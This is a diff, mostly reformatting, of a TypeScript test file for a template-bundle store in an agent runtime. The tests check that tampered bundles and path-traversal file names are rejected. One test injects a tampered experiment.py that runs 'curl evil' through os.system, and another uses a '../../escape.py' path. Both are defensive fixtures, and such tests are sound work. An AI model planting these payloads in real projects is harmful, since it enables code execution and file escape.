@@ -2,7 +2,14 @@ import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { describe, expect, it } from "vitest";
-import { ArtifactStore, deterministicId, ensureRunStream, newRunId, publishEnvelope, type Envelope } from "../../bus/index.ts";
+import {
+  ArtifactStore,
+  deterministicId,
+  ensureRunStream,
+  newRunId,
+  publishEnvelope,
+  type Envelope,
+} from "../../bus/index.ts";
 import { loadConfig } from "../../config/index.ts";
 import { builtinRoles } from "../roles/index.ts";
 import { readWorkspace } from "../../templates/index.ts";
@@ -26,7 +33,17 @@ function richTemplate(): string {
 }
 
 function started(run: string, payload: Record<string, unknown>): Envelope {
-  return { id: deterministicId(null, "run.started", 0, run), type: "run.started", run, from: "cli/test", causation: null, correlation: run, at: new Date().toISOString(), v: 1, payload };
+  return {
+    id: deterministicId(null, "run.started", 0, run),
+    type: "run.started",
+    run,
+    from: "cli/test",
+    causation: null,
+    correlation: run,
+    at: new Date().toISOString(),
+    v: 1,
+    payload,
+  };
 }
 
 describe("template bundle through the object store", () => {
@@ -42,9 +59,12 @@ describe("template bundle through the object store", () => {
     expect(dir).toBe(join(work, "mlp-dynamics"));
     const [a, b] = await Promise.all([readWorkspace(source), readWorkspace(dir)]);
     expect(Object.keys(b.workspace).sort()).toEqual(Object.keys(a.workspace).sort());
-    for (const [rel, bytes] of Object.entries(a.workspace)) expect(Buffer.from(b.workspace[rel]!).equals(Buffer.from(bytes))).toBe(true);
+    for (const [rel, bytes] of Object.entries(a.workspace))
+      expect(Buffer.from(b.workspace[rel]!).equals(Buffer.from(bytes))).toBe(true);
     expect(readFileSync(join(dir, "data", "blob.bin"))).toEqual(Buffer.from([0, 255, 1, 254, 7]));
-    expect(JSON.parse(readFileSync(join(dir, "run_0", "final_info.json"), "utf8"))).toEqual({ d: { means: { val_acc: 0.5 } } });
+    expect(JSON.parse(readFileSync(join(dir, "run_0", "final_info.json"), "utf8"))).toEqual({
+      d: { means: { val_acc: 0.5 } },
+    });
     expect(ref.files).toBe(Object.keys(a.workspace).length + 1);
   });
 
@@ -53,28 +73,56 @@ describe("template bundle through the object store", () => {
     const artifacts = new ArtifactStore(t.bus.objm, run, null);
     const ref = await shareTemplate(artifacts, fastTemplate(5));
     // Someone replaces the bundle after run.started named its digest.
-    const tampered = JSON.parse(new TextDecoder().decode(await artifacts.get(ref.artifact))) as { files: Record<string, string> };
+    const tampered = JSON.parse(new TextDecoder().decode(await artifacts.get(ref.artifact))) as {
+      files: Record<string, string>;
+    };
     tampered.files["experiment.py"] = Buffer.from("import os; os.system('curl evil')\n").toString("base64");
     await artifacts.put(ref.artifact, JSON.stringify(tampered));
-    await expect(fetchTemplate(artifacts, ref, fresh("sci-share-"))).rejects.toMatchObject({ code: "RUNTIME_TEMPLATE_DIGEST", message: expect.stringContaining(ref.digest) });
+    await expect(fetchTemplate(artifacts, ref, fresh("sci-share-"))).rejects.toMatchObject({
+      code: "RUNTIME_TEMPLATE_DIGEST",
+      message: expect.stringContaining(ref.digest),
+    });
   });
 
   it("refuses a bundle with a path that leaves its folder, and a missing one", async () => {
     const run = newRunId();
     const artifacts = new ArtifactStore(t.bus.objm, run, null);
-    const bytes = new TextEncoder().encode(JSON.stringify({ format: "scientist-template-bundle/1", folder: "t", files: { "../../escape.py": "eA==" } }));
+    const bytes = new TextEncoder().encode(
+      JSON.stringify({ format: "scientist-template-bundle/1", folder: "t", files: { "../../escape.py": "eA==" } }),
+    );
     await artifacts.put("_template/t.bundle.json", bytes);
-    const ref: TemplateBundleRef = { artifact: "_template/t.bundle.json", digest: sha256(bytes), bytes: bytes.length, files: 1 };
+    const ref: TemplateBundleRef = {
+      artifact: "_template/t.bundle.json",
+      digest: sha256(bytes),
+      bytes: bytes.length,
+      files: 1,
+    };
     const work = fresh("sci-share-");
     await expect(fetchTemplate(artifacts, ref, work)).rejects.toMatchObject({ code: "BUS_ARTIFACT_BAD_NAME" });
-    await expect(fetchTemplate(artifacts, { ...ref, artifact: "_template/none.bundle.json" }, work)).rejects.toMatchObject({ code: "RUNTIME_TEMPLATE_BUNDLE" });
+    await expect(
+      fetchTemplate(artifacts, { ...ref, artifact: "_template/none.bundle.json" }, work),
+    ).rejects.toMatchObject({ code: "RUNTIME_TEMPLATE_BUNDLE" });
   });
 
   it("scientist agent waits for run.started and refuses a tampered template, another policy, no bundle, no run", async () => {
-    const config = loadConfig({ env: {}, overrides: { natsUrl: t.url }, raw: { run: { out: fresh("sci-share-out-") } } });
+    const config = loadConfig({
+      env: {},
+      overrides: { natsUrl: t.url },
+      raw: { run: { out: fresh("sci-share-out-") } },
+    });
     const { registry } = await bootRoles(config, builtinRoles);
     const join_ = (run: string, policy?: "rules" | "llm", startWaitMs = 60_000) =>
-      hostRolesForRun({ config, registry, run, roles: ["writer"], natsUrl: t.url, logger: silentLogger, signal: new AbortController().signal, startWaitMs, ...(policy && { policy }) });
+      hostRolesForRun({
+        config,
+        registry,
+        run,
+        roles: ["writer"],
+        natsUrl: t.url,
+        logger: silentLogger,
+        signal: new AbortController().signal,
+        startWaitMs,
+        ...(policy && { policy }),
+      });
     const base = { template: "mlp-dynamics", policy: "rules", ideas: 1, maxInFlightIdeas: 1, settings: {} };
 
     // Joined before the owner published run.started: the agent waits for it, then checks the bundle.
@@ -82,13 +130,22 @@ describe("template bundle through the object store", () => {
     await ensureRunStream(t.bus.jsm, tampered);
     const ref = await shareTemplate(new ArtifactStore(t.bus.objm, tampered, null), fastTemplate(5));
     const joining = join_(tampered);
-    await publishEnvelope(t.bus.js, started(tampered, { ...base, templateBundle: { ...ref, digest: sha256(new Uint8Array([1])) } }));
+    await publishEnvelope(
+      t.bus.js,
+      started(tampered, { ...base, templateBundle: { ...ref, digest: sha256(new Uint8Array([1])) } }),
+    );
     await expect(joining).rejects.toMatchObject({ code: "RUNTIME_TEMPLATE_DIGEST" });
 
-    await expect(join_(newRunId())).rejects.toMatchObject({ code: "RUNTIME_RUN_NOT_FOUND", message: expect.stringContaining("no run") });
+    await expect(join_(newRunId())).rejects.toMatchObject({
+      code: "RUNTIME_RUN_NOT_FOUND",
+      message: expect.stringContaining("no run"),
+    });
     const silent = newRunId();
     await ensureRunStream(t.bus.jsm, silent);
-    await expect(join_(silent, undefined, 300)).rejects.toMatchObject({ code: "RUNTIME_RUN_NOT_FOUND", message: expect.stringContaining("no run.started") });
+    await expect(join_(silent, undefined, 300)).rejects.toMatchObject({
+      code: "RUNTIME_RUN_NOT_FOUND",
+      message: expect.stringContaining("no run.started"),
+    });
 
     const llm = newRunId();
     await ensureRunStream(t.bus.jsm, llm);
